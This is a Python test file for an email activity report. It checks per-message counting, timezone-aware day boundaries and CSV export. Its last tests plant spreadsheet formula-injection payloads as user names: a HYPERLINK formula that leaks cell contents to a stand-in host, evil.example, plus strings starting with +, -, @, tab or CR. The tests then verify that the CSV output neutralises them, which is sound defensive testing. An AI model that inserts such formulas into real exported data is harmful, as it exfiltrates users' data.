"""The activity report over the demo cache: once per email, per attributed user, per period."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, tzinfo
from zoneinfo import ZoneInfo

import pytest

from core.cli import main
from core.preview.activity import NOBODY, activity, csv_cell, period
from tests.preview.conftest import Workspace


def test_copies_of_one_email_count_once_and_drafts_not_at_all(workspace: Workspace) -> None:
    start, end = period(date(2026, 1, 1), date(2026, 12, 31))
    rows = activity(workspace.conn, workspace.account, start, end)
    total, distinct = workspace.conn.execute(
        "SELECT count(*), count(DISTINCT m.message_id) FROM messages m"
        " JOIN folders f ON f.id = m.folder_id WHERE m.logged = 1 AND f.role != 'drafts'"
    ).fetchone()
    assert distinct < total  # the Helios order form is in the Inbox and the Archive
    assert sum(r.emails for r in rows) == distinct
    assert [r.user for r in rows if r.user_id is None] == [str(NOBODY)]
    assert rows == sorted(rows, key=lambda r: -r.emails)


def test_a_period_is_whole_days_in_the_zone_given(workspace: Workspace) -> None:
    first = workspace.conn.execute(
        "SELECT min(sort_date) FROM messages WHERE logged = 1"
    ).fetchone()[0]
    day = datetime.fromtimestamp(first, UTC).date()
    start, end = period(day, day, UTC)
    assert end - start == 86_400
    assert sum(r.emails for r in activity(workspace.conn, workspace.account, start, end)) >= 1
    before = period(day - timedelta(days=1), day - timedelta(days=1), UTC)
    assert sum(r.emails for r in activity(workspace.conn, workspace.account, *before)) == 0


PARIS = ZoneInfo("Europe/Paris")
# Logged emails around midnight in Paris (winter UTC+1, summer UTC+2), long before the demo's.
NEAR_MIDNIGHT = {
    "late on the 14th": datetime(2025, 1, 14, 23, 30, tzinfo=PARIS),  # 22:30 UTC, the 14th
    "early on the 15th": datetime(2025, 1, 15, 0, 30, tzinfo=PARIS),  # 23:30 UTC, the 14th
    "early on 1 July": datetime(2025, 7, 1, 0, 15, tzinfo=PARIS),  # 22:15 UTC, 30 June
}


def _near_midnight(workspace: Workspace) -> None:
    """Three logged emails of the demo moved to the moments above."""
    rows = workspace.conn.execute(
        "SELECT m.id FROM messages m JOIN folders f ON f.id = m.folder_id"
        " WHERE m.logged = 1 AND f.role = 'sent' AND m.message_id IS NOT NULL"
        " GROUP BY m.message_id HAVING count(*) = 1 ORDER BY m.id LIMIT 3"
    ).fetchall()
    for (row,), moment in zip(rows, NEAR_MIDNIGHT.values(), strict=True):
        workspace.conn.execute(
            "UPDATE messages SET sort_date = ? WHERE id = ?", (moment.timestamp(), row)
        )


def _total(workspace: Workspace, first: date, last: date, tz: tzinfo | None) -> int:
    start, end = period(first, last, tz)
    return sum(r.emails for r in activity(workspace.conn, workspace.account, start, end))


def test_emails_around_midnight_in_paris_count_on_the_reps_day(workspace: Workspace) -> None:
    _near_midnight(workspace)
    jan14, jan15 = date(2025, 1, 14), date(2025, 1, 15)
    june30, july1 = date(2025, 6, 30), date(2025, 7, 1)
    assert _total(workspace, jan14, jan14, PARIS) == 1
    assert _total(workspace, jan15, jan15, PARIS) == 1
    assert _total(workspace, june30, june30, PARIS) == 0
    assert _total(workspace, july1, july1, PARIS) == 1
    # In UTC days, the same emails fall on the day before: what the rep did not see.
    assert _total(workspace, jan14, jan14, UTC) == 2
    assert _total(workspace, jan15, jan15, UTC) == 0
    assert _total(workspace, june30, june30, UTC) == 1


@pytest.fixture
def in_paris(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """This process's local zone is Europe/Paris (TZ, as a rep's system sets it)."""
    monkeypatch.setenv("TZ", "Europe/Paris")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("in_paris")
def test_the_default_zone_is_the_systems_and_the_command_uses_it(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    _near_midnight(workspace)
    assert _total(workspace, date(2025, 1, 15), date(2025, 1, 15), None) == 1
    start, end = period(date(2025, 3, 30), date(2025, 3, 30))  # the clocks go forward
    assert (start, end) == period(date(2025, 3, 30), date(2025, 3, 30), PARIS)
    assert end - start == 23 * 3600
    monkeypatch.setattr("core.store.db.default_path", lambda: workspace.path)
    out, err = io.StringIO(), io.StringIO()
    args = ["activity", "--from", "2025-01-15", "--to", "2025-01-15", "--csv"]
    assert main([*args, "--account", "demo"], out, err, io.StringIO()) == 0, err.getvalue()
    counts = [int(row[3]) for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]]
    assert sum(counts) == 1


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _evil_names(workspace: Workspace) -> None:
    """Users named as an attacker would name them (the directory's names are free text)."""
    conn = workspace.conn
    ids = [r[0] for r in conn.execute("SELECT id FROM directory_users ORDER BY position")]
    for user_id, name in zip(
        ids, [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"], strict=False
    ):
        conn.execute("UPDATE directory_users SET name = ? WHERE id = ?", (name, user_id))


@pytest.mark.parametrize(
    ("value", "cell"),
    [(EVIL, "'" + EVIL), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Mia = boss", "Mia = boss"), ("", ""), (12, 12), (-3, -3)],
)  # fmt: skip
def test_a_cell_that_starts_like_a_formula_is_neutralised(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_activity_csv_never_hands_a_spreadsheet_a_formula(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    _evil_names(workspace)
    monkeypatch.setenv("MAILSCOPE_HOME", str(workspace.path.parent / "home"))
    monkeypatch.setattr("core.store.db.default_path", lambda: workspace.path)
    out, err = io.StringIO(), io.StringIO()
    args = ["activity", "--from", "2026-01-01", "--to", "2026-12-31", "--csv", "--account", "demo"]
    assert main(args, out, err, io.StringIO()) == 0, err.getvalue()
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
